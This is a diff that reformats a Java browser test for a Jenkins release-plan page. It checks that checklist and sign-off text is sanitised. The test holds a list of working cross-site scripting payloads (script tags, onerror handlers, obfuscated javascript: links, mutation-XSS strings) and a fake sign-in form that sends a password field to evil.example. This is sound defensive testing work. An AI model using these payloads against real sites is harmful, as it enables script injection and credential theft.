@@ -48,7 +48,8 @@ public class HostileMarkupBrowserTest {
             "<iframe srcdoc=\"<script>parent." + OWN + "</script>\"></iframe>",
             "<style>rp-live { display: none !important }</style>",
             "<link rel=stylesheet href=data:text/css,*{display:none}>",
-            "<form action=\"https://evil.example/\"><input name=j_password autofocus onfocus=\"" + OWN + "\"><button>Sign in</button></form>",
+            "<form action=\"https://evil.example/\"><input name=j_password autofocus onfocus=\"" + OWN
+                    + "\"><button>Sign in</button></form>",
             "<div style=\"position:fixed;inset:0;background:red;z-index:9999\">over everything</div>",
             "<a href=\"javascript:" + OWN + "\">link</a> [link](javascript:" + OWN + ")",
             "<a href=\"&#106;ava&Tab;script:" + OWN + "\">link</a> [link](&#106;avascript:" + OWN + ")",
@@ -58,9 +59,11 @@ public class HostileMarkupBrowserTest {
             "</p></div></section></rp-live></main><h1>the end of the page",
             "<table><tr><td><img src=x onerror=\"" + OWN + "\"></td></table><td>cell",
             "| a | b |\n|---|---|\n| <script>" + OWN + "</script> | <b onmouseover=\"" + OWN + "\">b</b> |",
-            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=" + OWN + "&gt;\">",
+            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=" + OWN
+                    + "&gt;\">",
             "<noscript><p title=\"</noscript><img src=x onerror=" + OWN + ">\">",
-            "<template><script>" + OWN + "</script></template><rp-dialog></rp-dialog><textarea></textarea><img src=x onerror=" + OWN + ">",
+            "<template><script>" + OWN
+                    + "</script></template><rp-dialog></rp-dialog><textarea></textarea><img src=x onerror=" + OWN + ">",
             "\u202Edesrever \u2066isolated \u202Dforced",
             "<b><i><u>unclosed <ul><li>list",
             "&lt;script&gt;" + OWN + "&lt;/script&gt;");
@@ -73,11 +76,20 @@ public class HostileMarkupBrowserTest {
         build = new Scene(jenkins).open().begin("release", ID);
         StringBuilder plan = new StringBuilder("# Plan\n\n## Before\n\n");
         for (String text : TEXTS) {
-            plan.append("- [ ] **item** ").append(text.replace('\n', ' ')).append("\n  - below ").append(text.replace('\n', ' ')).append('\n');
+            plan.append("- [ ] **item** ")
+                    .append(text.replace('\n', ' '))
+                    .append("\n  - below ")
+                    .append(text.replace('\n', ' '))
+                    .append('\n');
         }
         plan.append("\n## Text\n\n").append(String.join("\n\n", TEXTS)).append("\n\n- [ ] the last item\n");
-        Scene.host().tell(ID, new ReleaseEvent.ChecklistRead(Checklist.parse(plan.toString()))).join();
-        List<String> items = Scene.state(ID).checklist().itemsOf(Scene.state(ID).checklist().phases()).stream()
+        Scene.host()
+                .tell(ID, new ReleaseEvent.ChecklistRead(Checklist.parse(plan.toString())))
+                .join();
+        List<String> items = Scene.state(ID)
+                .checklist()
+                .itemsOf(Scene.state(ID).checklist().phases())
+                .stream()
                 .map(item -> item.id())
                 .toList();
         for (int i = 0; i < TEXTS.size(); i++) {
@@ -86,8 +98,17 @@ public class HostileMarkupBrowserTest {
         mark(items.get(items.size() - 1), "<b>long</b> ".repeat(9_000) + "unbroken".repeat(1_000));
         Scene.reachGate(ID, Scene.GATE, new Condition.SignedOff("Security Lead", 2));
         Scene.host()
-                .tell(ID, new ReleaseEvent.OfGate(Scene.GATE, new GateEvent.Signed(
-                        "sam", Set.of("Security Lead"), "Security Lead", SignOff.Decision.APPROVE, String.join("\n", TEXTS), Scene.NEW)))
+                .tell(
+                        ID,
+                        new ReleaseEvent.OfGate(
+                                Scene.GATE,
+                                new GateEvent.Signed(
+                                        "sam",
+                                        Set.of("Security Lead"),
+                                        "Security Lead",
+                                        SignOff.Decision.APPROVE,
+                                        String.join("\n", TEXTS),
+                                        Scene.NEW)))
                 .join();
         CHROMIUM.look(false, false);
     }
@@ -95,8 +116,10 @@ public class HostileMarkupBrowserTest {
     /** Past what deeds allow, as an older or foreign ledger may have it. */
     private static void mark(String item, String note) {
         Scene.host()
-                .tell(ID, new ReleaseEvent.ItemMarked(
-                        new Mark(item, Status.DONE, "tina", Scene.host().now(), "", note, "")))
+                .tell(
+                        ID,
+                        new ReleaseEvent.ItemMarked(
+                                new Mark(item, Status.DONE, "tina", Scene.host().now(), "", note, "")))
                 .join();
     }
 
@@ -107,28 +130,44 @@ public class HostileMarkupBrowserTest {
             CHROMIUM.driver().get(jenkins.getURL() + build.getUrl() + "release/");
             CHROMIUM.see("rp-checklist .rp-item", "the last item");
             CHROMIUM.run("document.querySelectorAll('#main-panel details').forEach(part => { part.open = true })");
-            CHROMIUM.run("[...document.querySelectorAll('rp-live .rp-prose, rp-live .rp-prose *, .rp-item-name *')]"
-                    + ".forEach(one => { one.dispatchEvent(new MouseEvent('mouseover')); if (one.tagName !== 'A') one.click() })");
-            assertThat(CHROMIUM.run("return document.documentElement.dataset.owned || ''")).isEqualTo("");
+            CHROMIUM.run(
+                    "[...document.querySelectorAll('rp-live .rp-prose, rp-live .rp-prose *, .rp-item-name *')]"
+                            + ".forEach(one => { one.dispatchEvent(new MouseEvent('mouseover')); if (one.tagName !== 'A') one.click() })");
+            assertThat(CHROMIUM.run("return document.documentElement.dataset.owned || ''"))
+                    .isEqualTo("");
             assertThat((List<?>) CHROMIUM.run("return [...document.querySelectorAll('rp-live a')].map(a => a.href)"
                             + ".filter(href => !/^https?:/.test(href))"))
                     .isEmpty();
-            assertThat(CHROMIUM.run("return document.querySelectorAll(':is(.rp-prose, .rp-item-name) :is(script, style, link, iframe, form, input,"
-                            + " button, img, svg, math, base, meta, template, textarea, h1, rp-dialog, [style], [onerror], [onload], [onfocus])').length"))
+            assertThat(
+                            CHROMIUM.run(
+                                    "return document.querySelectorAll(':is(.rp-prose, .rp-item-name) :is(script, style, link, iframe, form, input,"
+                                            + " button, img, svg, math, base, meta, template, textarea, h1, rp-dialog, [style], [onerror], [onload], [onfocus])').length"))
                     .isEqualTo(0L);
-            assertThat((Long) CHROMIUM.run("const panel = document.querySelector('#main-panel'); return panel.scrollWidth - panel.clientWidth"))
+            assertThat(
+                            (Long)
+                                    CHROMIUM.run(
+                                            "const panel = document.querySelector('#main-panel'); return panel.scrollWidth - panel.clientWidth"))
                     .as("how far it scrolls sideways")
                     .isLessThanOrEqualTo(0);
-            assertThat(CHROMIUM.run("return [...document.querySelectorAll('rp-live > .rp-section > h2')].map(one => one.textContent).join()"))
+            assertThat(
+                            CHROMIUM.run(
+                                    "return [...document.querySelectorAll('rp-live > .rp-section > h2')].map(one => one.textContent).join()"))
                     .isEqualTo("What needs you now,Gates and sign-offs,Checklist,Audit trail");
-            assertThat((Long) CHROMIUM.run("return Math.max(...[...document.querySelectorAll('.rp-long')].map(one => one.clientHeight))"))
+            assertThat(
+                            (Long)
+                                    CHROMIUM.run(
+                                            "return Math.max(...[...document.querySelectorAll('.rp-long')].map(one => one.clientHeight))"))
                     .as("the height of a text of 100,000 characters")
                     .isLessThan(400);
-            assertThat(CHROMIUM.run("return [...document.querySelectorAll('.rp-prose, .rp-item-name')]"
-                            + ".filter(one => one.offsetParent && getComputedStyle(one).unicodeBidi === 'normal').length"))
+            assertThat(
+                            CHROMIUM.run(
+                                    "return [...document.querySelectorAll('.rp-prose, .rp-item-name')]"
+                                            + ".filter(one => one.offsetParent && getComputedStyle(one).unicodeBidi === 'normal').length"))
                     .as("texts whose direction could change what stands beside them")
                     .isEqualTo(0L);
-            assertThat(CHROMIUM.driver().findElement(By.cssSelector("rp-live .rp-outcome-word")).getText())
+            assertThat(CHROMIUM.driver()
+                            .findElement(By.cssSelector("rp-live .rp-outcome-word"))
+                            .getText())
                     .isEqualTo("Running: " + Scene.NEW);
         }
     }
